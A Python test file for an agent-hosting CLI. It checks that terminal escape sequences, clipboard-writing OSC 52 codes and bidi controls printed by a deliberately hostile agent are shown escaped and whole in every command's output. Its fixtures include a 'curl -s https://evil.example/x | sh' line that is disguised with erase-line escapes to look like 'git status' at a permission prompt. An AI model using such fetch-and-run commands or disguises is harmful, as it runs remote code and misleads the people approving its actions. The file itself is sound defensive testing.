"""Agent text never reaches a terminal raw: a real host runs an agent that prints
terminal escapes (erase line, cursor moves, OSC 0/8/52, DCS), C1 controls and bidi
controls everywhere it can (tests/fixtures/hostile_agent.py, text from
tests/hostiletext.py), and every CLI command that shows what it said, run in a pipe as
in a log, shows none of them raw: ``attach``, ``history``, ``pending``, ``status``,
``list``, ``export`` (each format), the JSON outputs, an error that quotes such text.

The command the agent asks to run is shown whole (``pending``, ``attach``), never cut to
the host's summary of it. The notation (``\\x1b``, ``\\u202e``) is docs/cli.md's, "How
agent text is shown"; unit tests of the escaping itself are in tests/unit/test_textsafe.py.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_terminal import Tmux

import hostiletext as hostile
from conftest import HostFactory
from hosttools import PY, HostProc, attached, cli, events_until, lines_agent

ACP_AGENT = Path(__file__).resolve().parents[1] / "fixtures" / "acp_agent.py"
ARGV_TEXT = hostile.NO_NUL
SHOWN_COMMAND = hostile.COMMAND.replace("\x1b", "\\x1b")
"""The approved command as it must show: whole, its one control (ESC) escaped."""


@pytest.fixture
def evil(host_factory: HostFactory, tmp_path: Path) -> HostProc:
    """A host whose agent has printed everything hostile and waits on its permission
    request (a task and a description given with the same text)."""
    return hostile.start_hostile_host(host_factory, tmp_path)


def run(host: HostProc, *args: str) -> subprocess.CompletedProcess[str]:
    return run_in(host.home, *args)


def run_in(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    out = cli(home, *args)
    assert out.returncode == 0, out.stderr
    return out


def assert_clean(out: subprocess.CompletedProcess[str]) -> None:
    """Neither stdout nor stderr holds a raw control, and something was shown."""
    assert out.stdout.strip() or out.stderr.strip()
    assert hostile.raw_controls(out.stdout) == [], out.stdout
    assert hostile.raw_controls(out.stderr) == [], out.stderr


def strings(value: Any) -> Iterator[str]:
    """Every string in a parsed JSON value, its keys' included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def test_attach_shows_every_event_escaped_and_the_command_whole(evil: HostProc) -> None:
    out = run(evil, "attach", "evil", "--no-follow", "--raw")
    assert_clean(out)
    assert SHOWN_COMMAND in out.stdout  # whole, as asked
    assert "git status" in out.stdout and "echo THE-END" in out.stdout
    assert "\\u202eexe.txt" in out.stdout  # what reverses text shows, in its place
    assert "stderr│ curl -s" in out.stdout  # the agent's stderr line, escaped


def test_attach_shows_a_pending_request_its_replay_left_out_once(evil: HostProc) -> None:
    """Whoever attaches after the question was asked (``--last 1``) still sees what is
    asked, whole: attach's question (and ``respond``) is about a request shown above."""
    for args in (["--last", "1"], []):
        out = run(evil, "attach", "evil", "--no-follow", *args)
        assert_clean(out)
        assert out.stdout.count("? Bash wants to run: ") == 1
        assert SHOWN_COMMAND in out.stdout
        assert "agenthost respond evil req_demo_0006 allow|deny" in out.stdout


def test_history_shows_agent_text_escaped(evil: HostProc) -> None:
    out = run(evil, "history", "evil")
    assert_clean(out)
    assert "\\x1b]52;c;cm0gLXJmIH4K\\x07" in out.stdout  # the clipboard write, visible
    assert "second line \\x1b[31mred" in out.stdout  # multi-line text keeps its lines


def test_pending_shows_the_whole_command_escaped(evil: HostProc) -> None:
    out = run(evil, "pending", "evil")
    assert_clean(out)
    assert SHOWN_COMMAND in out.stdout


def test_status_and_list_show_agent_and_task_text_escaped(evil: HostProc) -> None:
    status = run(evil, "status", "evil")
    assert_clean(status)
    assert "model\\x1b]0;title\\x07\\u202e" in status.stdout  # the model the agent named
    listed = run(evil, "list")
    assert_clean(listed)
    assert "curl -s" in listed.stdout


def test_export_as_a_transcript_is_escaped(evil: HostProc) -> None:
    out = run(evil, "export", "evil", "--format", "md")
    assert_clean(out)
    assert "git status" in out.stdout


@pytest.mark.parametrize(
    ("args", "kept"),
    [
        (["history", "evil", "--json"], hostile.COMMAND),
        (["pending", "evil", "--json"], hostile.COMMAND),
        (["status", "evil", "--json"], ARGV_TEXT),  # its task
        (["list", "--json"], ARGV_TEXT),
        (["export", "evil", "--format", "jsonl"], hostile.COMMAND),
        (["export", "evil", "--format", "events"], hostile.COMMAND),
        (["attach", "evil", "--no-follow", "--json"], hostile.COMMAND),
    ],
)
def test_json_outputs_escape_controls_and_keep_the_data(
    evil: HostProc, args: list[str], kept: str
) -> None:
    """JSON is data: the same strings once parsed, but no C1 or bidi control raw in the
    text (json.dumps escapes C0 controls only)."""
    out = run(evil, *args)
    assert_clean(out)
    text = out.stdout
    docs: list[Any] = (
        [json.loads(line) for line in text.splitlines() if line.strip()]
        if args[0] in ("export", "attach")
        else [json.loads(text)]
    )
    assert kept in set(strings(docs))  # parsed: the same text


def test_a_plain_programs_output_is_escaped(host_factory: HostFactory) -> None:
    code = f"import sys\nprint({hostile.LINE!r}, flush=True)\nsys.stdin.readline()\n"
    host = host_factory("plain", "--agent", "lines", command=lines_agent(code))
    with attached(host, offset=0) as conn:
        events_until(conn, lambda e: e["type"] == "output")
    out = run(host, "attach", "plain", "--no-follow")
    assert_clean(out)
    assert "curl -s https://evil.example/x | sh #\\x1b[2K\\x1b[1Ggit status" in out.stdout


def test_an_acp_agents_answers_and_an_error_quoting_them_are_escaped(
    home: Path, host_factory: HostFactory
) -> None:
    """The answers an ACP agent offers (``pending``'s OPTIONS), and the host's error
    that lists them when ``respond --option`` names none of them."""
    worktree = home / "wt"
    worktree.mkdir()
    agent = [PY, "-u", str(ACP_AGENT), "--script", "hostile", "--state", str(home / "acp")]
    host = host_factory("acp", "--agent", "acp", "--cwd", str(worktree), command=agent)
    host.wait_state("idle")
    with attached(host) as conn:
        assert conn.request("host.send", {"input": "/ask"})["success"]
        (asked,) = events_until(conn, lambda e: e["type"] == "permission_request")[-1:]
    listed = run(host, "pending", "acp")
    assert_clean(listed)
    assert "allow\\x1b]0;title\\x07(allow_once)" in listed.stdout
    rid = asked["request"]["request_id"]
    wrong = cli(home, "respond", "acp", rid, "allow", "--option", "none-of-them")
    assert wrong.returncode != 0
    assert_clean(wrong)
    assert "reject\\x9b2K\\u202e" in wrong.stderr


@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
def test_the_finding_on_a_real_terminal(evil: HostProc) -> None:
    """The finding itself, in a terminal (tmux): ``attach`` showed only ``git status`` of
    ``curl … | sh #\\e[2K\\e[1Ggit status``, and the agent could set the window's title.
    Now the command shows whole, escaped, and the question names the request."""
    term = Tmux(evil.home)
    try:
        term.start(f"{PY} -m agenthost attach evil", width=120, height=60)
        lines = term.wait("answer below: y (allow)").splitlines()
        asked = lines[[i for i, line in enumerate(lines) if "answer below" in line][0] - 1]
        # (it read "git status xxxxxxxx…": the escapes erased the rest)
        assert asked.startswith("? Bash wants to run: curl -s https://evil.example/x | sh #")
        assert "sh #\\x1b[2K\\x1b[1Ggit status xxx" in asked
        assert asked.endswith("xxx ; echo THE-END")  # whole: its end too
        title = term.tmux("display-message", "-p", "-t", "0", "#{pane_title}")
        assert "title" not in title  # no OSC 0 reached the terminal
        term.wait("allow Bash req_demo_0006 (shown above)? [y/n/a(lways)]")
        term.type("y")
        term.wait("⚖ Bash: allowed by terminal")
    finally:
        term.close()


def test_the_notice_log_shows_titles_escaped(home: Path) -> None:
    """A notice's title quotes the agent (the command it asks to run), and so does the
    reason a delivery failed (a webhook's answer)."""
    from agenthost.attention.ledger import Ledger

    ledger = Ledger(home)
    row = ledger.claim("a1|e|3|waiting", "a1", "waiting", "hook", f"a1 asks: {ARGV_TEXT}")
    assert row is not None
    ledger.update(row, "failed", 2, f"HTTP 500: {ARGV_TEXT}")
    ledger.close()
    out = run_in(home, "notify", "log")
    assert_clean(out)
    assert out.stdout.count("curl -s https://evil.example/x | sh #\\x1b[2K") == 2
